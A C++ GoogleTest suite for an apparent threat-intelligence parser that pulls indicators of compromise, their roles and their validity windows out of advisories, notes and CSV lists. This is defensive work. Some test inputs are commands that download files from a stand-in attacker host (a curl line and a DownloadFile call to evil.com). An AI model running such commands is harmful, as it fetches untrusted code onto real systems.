#include "clew/intel/read_notice.h"

#include "clew/base/disk.h"

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <optional>
#include <string>

#include <gtest/gtest.h>

namespace clew::intel {
namespace {

using model::Indicator;
using model::Notice;
using model::Role;
using model::ValueType;

Pack acme() {
  Pack pack;
  pack.id = "acme";
  pack.name = "Acme Devices";
  pack.domains = {"acme.test"};
  return pack;
}

/// Reads, and checks what holds for every notice: each indicator stands where it says.
Notice read_with_pack(std::string bytes) {
  const std::vector<Pack> packs = {acme()};
  auto notice = read_notice({"notice", bytes}, packs);
  EXPECT_TRUE(notice) << (notice ? "" : notice.error().what);
  if (!notice) return {};
  for (const Indicator& indicator : notice->indicators) {
    EXPECT_EQ(bytes.substr(indicator.where.offset_bytes, indicator.where.size_bytes), indicator.text);
  }
  return *notice;
}

Notice read_stored(const std::filesystem::path& path) {
  auto bytes = base::read_small_file(path, notice_bytes_max);
  EXPECT_TRUE(bytes) << path;
  return bytes ? read_with_pack(*bytes) : Notice{};
}

Notice testdata(const std::string& name) {
  return read_stored(std::filesystem::path(CLEW_SOURCE_DIR) / "clew/intel/testdata" / name);
}

const Indicator* find(const Notice& notice, ValueType type, std::string_view value) {
  for (const Indicator& indicator : notice.indicators) {
    if (indicator.value.type() == type && indicator.value.text() == value) return &indicator;
  }
  return nullptr;
}

/// Why a value is a mention; empty if it is none.
std::string why_mentioned(const Notice& notice, std::string_view value) {
  for (const auto& mention : notice.mentions) {
    if (mention.value == value) return mention.why;
  }
  return {};
}

std::string why_refused(const Notice& notice, std::string_view text) {
  for (const auto& refusal : notice.refused) {
    if (refusal.text == text) return refusal.why;
  }
  return {};
}

std::string values_in(const Notice& notice) {
  std::string all;
  for (const Indicator& indicator : notice.indicators) {
    all += std::string(all.empty() ? "" : " ") + std::string(model::name_of(indicator.value.type())) + ":" +
           indicator.value.text();
  }
  return all;
}

std::string date(const std::optional<base::Instant>& instant) { return instant ? base::to_date(*instant) : "open"; }

// ---- a supplier's notice in Markdown --------------------------------------------------------------------------------

TEST(VendorNotice, SaysWhoseItIsAndWhenItWasPublished) {
  const Notice notice = testdata("vendor.md");
  EXPECT_EQ(notice.source.format, "markdown");
  EXPECT_EQ(notice.source.title, "Security notice: unauthorised access to the update service");
  EXPECT_EQ(notice.source.published, "2024-03-03");
  EXPECT_EQ(notice.source.publisher, "Acme Devices");
  EXPECT_EQ(notice.supplier, "acme");
}

TEST(VendorNotice, StatesTheTimeToLookAtToTheEndOfTheLastDay) {
  const Notice notice = testdata("vendor.md");
  EXPECT_EQ(date(notice.window.from), "2024-02-12");
  EXPECT_EQ(date(notice.window.to), "2024-03-02");
  EXPECT_NE(notice.window_text.find("12 February to 1 March 2024"), std::string::npos);
}

TEST(VendorNotice, YieldsExactlyItsIndicators) {
  EXPECT_EQ(
      values_in(testdata("vendor.md")),
      "sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef domain:cdn-updates.example "
      "url:https://static.cdn-updates.example/v2/ ipv4:203.0.113.77 package:left-pad-fast package:@acme-tools/core "
      "domain:files.cdn-updates.example ipv4:198.51.100.23 ipv4:198.51.100.40 cidr:198.51.100.64/28 "
      "md5:9e107d9d372bb6826bd81d3542a419d6 mutex:Global\\acme-lock file_path:C:\\ProgramData\\Acme Tools\\svc.exe email:billing@cdn-updates.example");
}

TEST(VendorNotice, KeepsThePortOfAnAddress) {
  const Notice notice = testdata("vendor.md");
  EXPECT_EQ(find(notice, ValueType::ipv4, "198.51.100.23")->value.port(), 8443);
}

TEST(VendorNotice, TakesTheRoleFromTheRemarkOfTheRow) {
  const Notice notice = testdata("vendor.md");
  EXPECT_EQ(find(notice, ValueType::domain, "cdn-updates.example")->role, Role::c2);
  EXPECT_EQ(find(notice, ValueType::domain, "files.cdn-updates.example")->role, Role::delivery);
  EXPECT_EQ(find(notice, ValueType::ipv4, "198.51.100.40")->role, Role::shared_infrastructure);
  EXPECT_EQ(find(notice, ValueType::md5, "9e107d9d372bb6826bd81d3542a419d6")->role, Role::payload);
  EXPECT_EQ(find(notice, ValueType::domain, "cdn-updates.example")->note, "command and control");
}

TEST(VendorNotice, AttachesAWindowToTheIndicatorThatTheSentenceBeforeNamed) {
  const Notice notice = testdata("vendor.md");
  const Indicator* address = find(notice, ValueType::ipv4, "203.0.113.77");
  EXPECT_EQ(date(address->valid.from), "2022-01-01");
  EXPECT_EQ(date(address->valid.to), "2022-06-01");
  const Indicator* network = find(notice, ValueType::cidr, "198.51.100.64/28");
  EXPECT_EQ(date(network->valid.from), "2021-03-01");
  EXPECT_EQ(date(network->valid.to), "2021-07-01");
  EXPECT_TRUE(find(notice, ValueType::domain, "cdn-updates.example")->valid.is_open());
}

TEST(VendorNotice, MentionsWhatMerelyAppears) {
  const Notice notice = testdata("vendor.md");
  EXPECT_EQ(why_mentioned(notice, "https://www.acme.test/help"), "the supplier's own site");
  EXPECT_EQ(why_mentioned(notice, "security@acme.test"), "the supplier's own mail address");
  EXPECT_EQ(why_mentioned(notice, "portal.acme.test"), "the supplier's own site");
  EXPECT_EQ(why_mentioned(notice, "https://research.test/acme-story"), "listed as a reference");
  EXPECT_EQ(why_mentioned(notice, "https://news.test/acme"), "listed as a reference");
}

TEST(VendorNotice, RefusesBrokenValuesAtTheirPlaceAndNeverRepairsThem) {
  const Notice notice = testdata("vendor.md");
  EXPECT_EQ(notice.refused.size(), 2U);
  EXPECT_EQ(why_refused(notice, "5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6"),
            "62 digits, 64 expected");
  EXPECT_NE(why_refused(notice, "198.51.100[.]300"), "");
  EXPECT_NE(find(notice, ValueType::mutex, "Global\\acme-lock"), nullptr);
}

// ---- an analyst's note in plain text --------------------------------------------------------------------------------

TEST(AnalystNote, YieldsExactlyItsIndicators) {
  EXPECT_EQ(
      values_in(testdata("note.txt")),
      "ipv4:203.0.113.9 sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef "
      "url:https://api.loader.example/gate.php ipv4:203.0.113.10 domain:loader.example file_path:C:\\Users\\Public\\update helper.exe");
}

TEST(AnalystNote, SaysThatAValueEndsAtAPlaceholder) {
  const Notice notice = testdata("note.txt");
  EXPECT_EQ(find(notice, ValueType::url, "https://api.loader.example/gate.php")->warnings.size(), 1U);
  EXPECT_EQ(why_refused(notice, "%APPDATA%\\[random]\\run.dll"), "a pattern or placeholder, not a value");
}

TEST(AnalystNote, RefusesAHashWithALostDigit) {
  EXPECT_EQ(why_refused(testdata("note.txt"), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85"),
            "63 digits, 64 expected");
}

TEST(AnalystNote, TakesItsDateFromTheTitle) { EXPECT_EQ(testdata("note.txt").source.published, "2024-05-02"); }

// ---- lists ----------------------------------------------------------------------------------------------------------

TEST(List, ReadsAnyOrderOfColumnsAndOtherPeoplesNamesOfKinds) {
  const Notice notice = testdata("list.csv");
  EXPECT_EQ(notice.source.format, "csv");
  EXPECT_EQ(values_in(notice),
            "domain:evil.example ipv4:203.0.113.5 url:evil.example/gate.php account:dev-helper mutex:Global\\lock");
  EXPECT_EQ(notice.source.publisher, "Example CERT");
  const Indicator* domain = find(notice, ValueType::domain, "evil.example");
  EXPECT_EQ(domain->role, Role::c2);
  EXPECT_EQ(domain->activity, "Spring");
  EXPECT_NE(domain->note.find("also published for Autumn"), std::string::npos);
}

TEST(List, ReadsAnEndOfAMonthAsTheEndOfThatMonth) {
  const Notice notice = testdata("list.csv");
  const Indicator* address = find(notice, ValueType::ipv4, "203.0.113.5");
  EXPECT_EQ(date(address->valid.from), "2022-01-01");
  EXPECT_EQ(date(address->valid.to), "2022-06-01");
}

TEST(List, RefusesRowsThatAreBroken) {
  const Notice notice = testdata("list.csv");
  EXPECT_EQ(why_refused(notice, "abc"), "3 digits, 64 expected");
  EXPECT_NE(find(notice, ValueType::mutex, "Global\\lock"), nullptr);
}

struct ListCase {
  std::string name, text, want;
};
class Lists : public testing::TestWithParam<ListCase> {};
TEST_P(Lists, AreRecognisedByContent) {
  const Notice notice = read_with_pack(GetParam().text);
  EXPECT_EQ(notice.source.format, "csv");
  EXPECT_EQ(values_in(notice), GetParam().want);
}
INSTANTIATE_TEST_SUITE_P(
    Shapes, Lists,
    testing::Values(ListCase{"one_a_line", "# our list\nevil.com\n203.0.113.5 # exit\n\nhxxp://evil[.]example/a\n",
                             "domain:evil.com ipv4:203.0.113.5 url:http://evil.example/a"},
                    ListCase{"header_of_one", "indicator\nevil.com\nbad.org\n", "domain:evil.com domain:bad.org"},
                    ListCase{"tabs", "type\tvalue\ndomain\tevil.example\nip\t2001:db8::1\n",
                             "domain:evil.example ipv6:2001:db8::1"},
                    ListCase{"quotes", "\"value\",\"type\"\n\"evil.example\",\"hostname\"\n", "domain:evil.example"},
                    ListCase{"no_header", "evil.com,domain,seen\nbad.org,domain,seen\n",
                             "domain:evil.com domain:bad.org"},
                    ListCase{"kind_is_missing", "ioc,comment\n203.0.113.5,x\nevil[.]example,y\n",
                             "ipv4:203.0.113.5 domain:evil.example"},
                    ListCase{"crlf", "value,kind\r\nevil.example,domain\r\n203.0.113.9:443,ipv4:port\r\n",
                             "domain:evil.example ipv4:203.0.113.9"}),
    [](const auto& row) { return row.param.name; });

// ---- indicator or mention -------------------------------------------------------------------------------------------

struct Judgement {
  std::string name, text, want;
};
class Judgements : public testing::TestWithParam<Judgement> {};
TEST_P(Judgements, FollowHowAndWhereAValueStands) {
  EXPECT_EQ(values_in(read_with_pack(GetParam().text)), GetParam().want);
}
INSTANTIATE_TEST_SUITE_P(
    Rules, Judgements,
    testing::Values(
        Judgement{"defanged_in_prose", "# N\n\nIt spoke to evil[.]example then.\n", "domain:evil.example"},
        Judgement{"plain_name_in_prose", "# N\n\nIt spoke to evil.com then.\n", ""},
        Judgement{"live_link_in_prose", "# Indicators\n\nMore at https://blog.com/story.\n", ""},
        Judgement{"markdown_link", "# Indicators\n\n- [our report](https://blog.com/story)\n", ""},
        Judgement{"defanged_text_of_a_link", "# N\n\nSee [evil[.]example](https://blog.com/x).\n",
                  "domain:evil.example"},
        Judgement{"list_under_indicators", "# Indicators\n\n- evil.com\n- bad.org\n", "domain:evil.com domain:bad.org"},
        Judgement{"list_elsewhere", "# Products\n\n- shop.com\n- mail.org\n", ""},
        Judgement{"code_block_under_indicators", "## IOCs\n```\nevil.com/a.php\n2001:db8::5\n```\n",
                  "url:evil.com/a.php ipv6:2001:db8::5"},
        Judgement{"subheading_inherits", "## Indicators\n### Second wave\n- evil.com\n", "domain:evil.com"},
        Judgement{"next_heading_ends_it", "## Indicators\n- evil.com\n## Products\n- shop.com\n", "domain:evil.com"},
        Judgement{
            "lead_in_sentence",
            "# N\n\nThe following domains were used by the intruder:\n\n- evil.com\n\nThanks to all.\n\n- shop.com\n",
            "domain:evil.com"},
        Judgement{"allow_list", "# N\n\n## Please allow these domains\n\n- shop.com\n- mail[.]example\n", ""},
        Judgement{"hash_in_prose", "# N\n\nIt had 9e107d9d372bb6826bd81d3542a419d6 as its sum.\n",
                  "md5:9e107d9d372bb6826bd81d3542a419d6"},
        Judgement{"commit_in_prose", "# N\n\nFixed in commit 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12.\n", ""},
        Judgement{"version_number", "# Indicators\n\n- Update to version 10.4.2.1 now\n", ""},
        Judgement{"private_address", "# Indicators\n\n- 10.0.0[.]7\n- 127.0.0.1\n", ""},
        Judgement{"address_called_c2", "# N\n\nThe C2 server was 203.0.113.9 then.\n", "ipv4:203.0.113.9"},
        Judgement{"address_in_passing", "# N\n\nOur office is at 203.0.113.9 now.\n", ""},
        Judgement{"imitated_name", "# N\n\nThese names impersonate bank[.]example daily.\n", ""},
        Judgement{"code_names", "# Indicators\n\nRun `setup.py` with Node.js, see README.md and main.rs.\n", ""},
        Judgement{"remark_beside_a_hash", "# Hashes\n\n- 9e107d9d372bb6826bd81d3542a419d6 - a VB.NET loader\n",
                  "md5:9e107d9d372bb6826bd81d3542a419d6"},
        Judgement{"package_needs_a_bad_word", "# N\n\nOur npm packages `left-pad` and `right-pad` are fine.\n", ""},
        Judgement{"packages", "# N\n\nTwo malicious PyPI packages, `reqests` and `urlib`, were removed.\n",
                  "package:reqests package:urlib"},
        Judgement{"command_is_no_package", "# N\n\nMalicious npm packages run on `npm install`.\n", ""},
        Judgement{"bitcoin_with_checksum", "# N\n\nBitcoin: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa\n",
                  "btc_address:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"},
        Judgement{"bitcoin_with_wrong_checksum", "# N\n\nBitcoin: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb\n", ""},
        Judgement{"labelled_value",
                  "# N\n\n- SHA256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef\n",
                  "sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef"},
        Judgement{"wildcard", "# Domains\n\n- *.evil[.]example\n", "domain:evil.example"},
        Judgement{
            "table_by_column_names",
            "# N\n\n| SHA256 | File name |\n|---|---|\n| 5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef | a.exe |\n",
            "sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef"},
        Judgement{"table_of_events", "# N\n\n| Date | Event |\n|---|---|\n| 2024-01-01 | shop.com was updated |\n", ""},
        Judgement{"several_in_a_cell",
                  "# N\n\n| Type | Value |\n|---|---|\n| domain | a[.]example, b[.]example<br>c[.]example |\n",
                  "domain:a.example domain:b.example domain:c.example"},
        Judgement{"address_that_is_contacted",
                  "# N\n\nThe backdoor connects to c2[.]example and, failing that, to 198.18.7.9:8443.\n",
                  "domain:c2.example ipv4:198.18.7.9"},
        Judgement{"address_with_a_label", "# N\n\nIP: 93.184.216.34\n", "ipv4:93.184.216.34"},
        Judgement{"resolver_that_is_asked", "# N\n\nThe malware sends its look-ups to 8.8.8.8.\n", ""},
        Judgement{"build_that_looks_like_an_address", "# N\n\nThe malware needs Framework 4.0.30.19 here.\n", ""},
        Judgement{
            "halves_of_a_cell",
            "# N\n\n   File     SHA-256\n   a.dll    5f70bf18a086007016e948b04aed3b82\n            103a36bea41755b6cddfaf10ace3c6ef\n",
            "sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef"},
        Judgement{
            "two_hashes_below_one_another",
            "# N\n\nSamples, MD5 (not SHA-256)\n\n   a.dll    5f70bf18a086007016e948b04aed3b82\n            103a36bea41755b6cddfaf10ace3c6ef\n",
            "md5:5f70bf18a086007016e948b04aed3b82 md5:103a36bea41755b6cddfaf10ace3c6ef"},
        Judgement{
            "list_without_marks",
            "Report\nIndicators\nAtomic\nAlder loader\nevil.com\nbad.org / 93.184.216.34:443\nMore text follows here.\n",
            "domain:evil.com domain:bad.org ipv4:93.184.216.34"},
        Judgement{"line_in_capitals_that_is_a_value", "# Indicators\n\n93.184.216.34\n93.184.216.35 (ALDER VPN)\n",
                  "ipv4:93.184.216.34 ipv4:93.184.216.35"},
        Judgement{"resources_without_a_blank_line",
                  "Indicators\nevil.com\nbad.org\nAdditional Resources\nA story\nhttps://blog.com/story\n",
                  "domain:evil.com domain:bad.org"},
        Judgement{"command_that_fetches", "# N\n\n```\ncurl -o x https://evil.com/a.sh\n```\n",
                  "url:https://evil.com/a.sh"},
        Judgement{"command_that_repairs",
                  "# N\n\n## Mitigation\n\nUpgrade: `curl -O https://shop.com/new.tar.gz`, MD5 "
                  "9e107d9d372bb6826bd81d3542a419d6.\n",
                  ""},
        Judgement{"quotes_around_a_url", "# N\n\nx.DownloadFile('hxxp://evil[.]com/a','c:\\b')\n",
                  "url:http://evil.com/a"},
        Judgement{"url_of_an_address", "# N\n\nIt asked http://93.184.216.34:3000/a.zip then.\n",
                  "url:http://93.184.216.34:3000/a.zip"},
        Judgement{"product_in_brackets", "# N\n\nThe attacker met an old server (Jira 9.4.0.1) there.\n", ""},
        Judgement{"free_mailbox", "# N\n\nThe account was opened by alder.birch@gmail.com in May.\n",
                  "email:alder.birch@gmail.com"},
        Judgement{"mailbox_of_an_authority", "# N\n\nReport malicious mail to cyber@bureau.gov today.\n", ""},
        Judgement{"hidden_service", "# N\n\nThe note names alderbirchcedar.onion as well.\n",
                  "domain:alderbirchcedar.onion"},
        Judgement{"name_for_examples", "# N\n\nThe attacker may ask `curl https://gw.example.com/api` then.\n", ""},
        Judgement{"genuine_in_french", "# N\n\nLe domaine l\xc3\xa9gitime banque.fr n'est pas compromis.\n", ""},
        Judgement{"cells_without_gaps",
                  "IoCs\nSHA-1FilenameDetection\n2FD4E1C67A2D28FCED849EE1BB76E7391B93EB12FCCall.exeWin64/A\n"
                  "93.184.216[.]34evil[.]ioAlder Hosting\n",
                  "sha1:2fd4e1c67a2d28fced849ee1bb76e7391b93eb12 ipv4:93.184.216.34 domain:evil.io"},
        Judgement{"hashes_beside_a_column_of_indicators",
                  "# N\n\n| Indicator | Type | SHA256 |\n|---|---|---|\n| evil[.]com | Domain | N/A |\n"
                  "| evil.com | Domain | 5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef |\n",
                  "domain:evil.com sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef"},
        Judgement{"fields_above_a_text",
                  "---\ntitle: A note\nauthor:\n  - slug: alder\n---\n\nIt spoke to evil[.]com.\n", "domain:evil.com"},
        Judgement{
            "article_that_shows_a_rule",
            "<html><body><p>It met evil[.]com.</p><pre>title: A\nlogsource:\n  x: y\ndetection:\n  z: w</pre></body></html>",
            "domain:evil.com"},
        Judgement{"same_value_twice", "# Domains\n\n- evil.com\n- EVIL[.]com\n", "domain:evil.com"}),
    [](const auto& row) { return row.param.name; });

TEST(ReadNotice, FindsTheWindowOfATextWhoseFirstHeadingIsNotItsTitle) {
  const Notice notice = read_with_pack(
      "Advisory: Moth Monitor\n\n2 April 2025, Moth Labs Inc.\n\n"
      "Builds released between December 2, 2024 and January 9, 2025, contain an implant.\n\n"
      "Indicators:\n  evil-moth[.]test    (DNS)\n");
  ASSERT_TRUE(notice.window.from && notice.window.to);
  EXPECT_EQ(base::to_date(*notice.window.from), "2024-12-02");
  EXPECT_EQ(notice.source.published, "2025-04-02");
}

TEST(ReadNotice, TakesAnObservationForNoWindowOfValidity) {
  const Notice notice = read_with_pack("# N\n\nWe saw traffic to evil[.]example between 1 May 2023 and 3 May 2023.\n");
  ASSERT_EQ(notice.indicators.size(), 1U);
  EXPECT_TRUE(notice.indicators.front().valid.is_open());
}

TEST(ReadNotice, TakesTheOnlyStretchOfDaysForTheTimeToLookAt) {
  const auto window_of = [](std::string_view sentences, std::string_view title = "# Security advisory") {
    return read_with_pack(std::string(title) + "\n\n" + std::string(sentences) + "\n\nThe domain evil[.]example.\n")
        .window;
  };
  constexpr std::string_view sentence = "From 10 July to 20 July 2026 a certificate of ours was in the wrong hands.";
  const model::Window window = window_of(sentence);
  ASSERT_TRUE(window.from && window.to);
  EXPECT_EQ(base::to_rfc3339(*window.from), "2026-07-10T00:00:00Z");
  EXPECT_EQ(base::to_rfc3339(*window.to), "2026-07-21T00:00:00Z");
  EXPECT_TRUE(window_of(std::string(sentence) + " Our portal rests from 1 May to 3 May 2026.").is_open());
  EXPECT_TRUE(window_of("Our portal rests from May to July 2026.").is_open()) << "no days";
  EXPECT_TRUE(window_of(sentence, "# What is new").is_open()) << "no notice";
  EXPECT_FALSE(window_of(sentence, "# Exposure of credentials").is_open());
  EXPECT_EQ(base::to_rfc3339(*window_of(std::string(sentence) + " Look at the logs from 1 May to 3 May 2026.").from),
            "2026-05-01T00:00:00Z");
}

TEST(ReadNotice, TakesTheFirmsOwnAddressesForNobodys) {
  EXPECT_EQ(values_in(read_with_pack(
                "# N\n\nThe intruder came from 198.51.100[.]7.\n\nWe use 192.0.2[.]0/28 for our runners: these are "
                "ours, not the intruder's.\n")),
            "ipv4:198.51.100.7");
}

TEST(ReadNotice, GivesTheLineAndBytesBehindMultibyteText) {
  const Notice notice = read_with_pack("# Über\n\nDänemark: evil\xe2\x80\x8b[.]example …\n");
  ASSERT_EQ(notice.indicators.size(), 1U);
  EXPECT_EQ(notice.indicators.front().line, 3U);
  EXPECT_EQ(notice.indicators.front().text, "evil\xe2\x80\x8b[.]example");
}

TEST(ReadNotice, RefusesAHashWithALetterTooMany) {
  const Notice notice = read_with_pack("# IOCs\n\n- 5f70bf18a086007016e948b04aed3b82s\n");
  EXPECT_TRUE(notice.indicators.empty());
  ASSERT_EQ(notice.refused.size(), 1U);
  EXPECT_EQ(notice.refused.front().why, "a letter behind 32 digits");
}

TEST(ReadNotice, TakesNoMarkOfHandlingForTheTitle) {
  EXPECT_EQ(read_with_pack("TLP:CLEAR\n\nAn advisory\n\nThe domain evil[.]example is a C2.\n").source.title,
            "An advisory");
}

TEST(ReadNotice, FindsNoIndicatorsInAnOrdinaryText) {
  const Notice notice = read_with_pack("# All is well\n\nNothing happened.\n");
  EXPECT_TRUE(notice.indicators.empty());
  EXPECT_TRUE(notice.window.is_open());
}

TEST(ReadNotice, ReadsAPack) {
  const Notice notice = read_with_pack(
      "schema = \"clew.pack/1\"\n[supplier]\nid = \"acme\"\nname = \"Acme\"\n[[indicator]]\ntype = \"domain\"\nvalue = \"evil.example\"\n");
  EXPECT_EQ(notice.source.format, "pack");
  EXPECT_EQ(notice.supplier, "acme");
  EXPECT_EQ(values_in(notice), "domain:evil.example");
}

// ---- errors ---------------------------------------------------------------------------------------------------------

TEST(ReadNotice, SaysWhyItReadsNothing) {
  const auto problem = [](std::string bytes) { return read_notice({"n", std::move(bytes)}, {}).error(); };
  EXPECT_EQ(problem("").what, "the notice is empty");
  EXPECT_EQ(problem(" \n\t\n").what, "the notice is empty");
  EXPECT_EQ(problem("").fault, base::Fault::malformed);
  EXPECT_EQ(problem("").file, "n");
  EXPECT_EQ(problem(std::string("evil.com\0x", 10)).what, "not a text: a NUL byte");
  EXPECT_EQ(problem("%PDF-1.7 ...").what, "a PDF without its text; pdftotext of poppler-utils takes it out");
  EXPECT_EQ(problem("\x01\x02\x03\x04ok").fault, base::Fault::unsupported);
  EXPECT_EQ(problem(std::string(notice_bytes_max + 1, 'a')).fault, base::Fault::over_limit);
}

// ---- material that lies outside the repository ----------------------------------------------------------------------

std::optional<std::filesystem::path> shared(const std::string& name) {
  const char* folder = std::getenv("CLEW_SHARED");
  const std::filesystem::path path =
      (folder != nullptr ? std::filesystem::path(folder) : std::filesystem::path(CLEW_SOURCE_DIR) / "../shared") / name;
  return std::filesystem::exists(path) ? std::optional(path) : std::nullopt;
}

/// The cells of the Markdown tables of a notice: type and value, refanged by hand.
std::vector<std::pair<std::string, std::string>> table_rows(const std::string& text) {
  std::vector<std::pair<std::string, std::string>> rows;
  std::size_t at = 0;
  while ((at = text.find("\n| ", at)) != std::string::npos) {
    const std::size_t bar = text.find(" | `", at);
    const std::size_t line_end = text.find('\n', at + 1);
    if (bar != std::string::npos && bar < line_end) {
      std::string value = text.substr(bar + 4, text.find('`', bar + 4) - bar - 4);
      for (std::size_t dot = 0; (dot = value.find("[.]")) != std::string::npos;) value.replace(dot, 3, ".");
      rows.emplace_back(text.substr(at + 3, bar - at - 3), value);
    }
    ++at;
  }
  return rows;
}

TEST(SharedCases, YieldEveryRowOfTheirTablesAndRefuseNothing) {
  const auto folder = shared("cases/lantern-harbor");
  if (!folder) GTEST_SKIP() << "the shared cases are not here";
  for (const auto& entry : std::filesystem::directory_iterator(*folder)) {
    const auto path = entry.path() / "notice.md";
    if (!std::filesystem::exists(path)) continue;
    const std::string bytes = base::read_small_file(path, notice_bytes_max).value();
    const auto notice = read_notice({path.string(), bytes}, built_in_packs());
    ASSERT_TRUE(notice);
    const auto rows = table_rows(bytes);
    EXPECT_GT(rows.size(), 10U);
    for (const auto& [type, value] : rows)
      EXPECT_NE(find(*notice, model::value_type_named(type).value(), value), nullptr) << path << " " << value;
    EXPECT_TRUE(notice->refused.empty());
    EXPECT_FALSE(notice->supplier.empty());
    EXPECT_FALSE(notice->window.is_open());
    const bool limited =
        std::ranges::any_of(notice->indicators, [](const Indicator& i) { return i.valid.from && i.valid.to; });
    EXPECT_TRUE(limited) << "the address whose validity only the prose states";
    for (const auto& mention : notice->mentions)
      EXPECT_TRUE(mention.why.starts_with("the supplier's own")) << mention.value;
  }
}

TEST(SharedLists, AreReadToTheLastRow) {
  const auto path = shared("data/indicators/published.csv");
  if (!path) GTEST_SKIP() << "the shared data are not here";
  const Notice notice = read_stored(*path);
  EXPECT_GT(notice.indicators.size(), 1690U);
  EXPECT_LT(notice.refused.size(), 5U);
}

}  // namespace
}  // namespace clew::intel
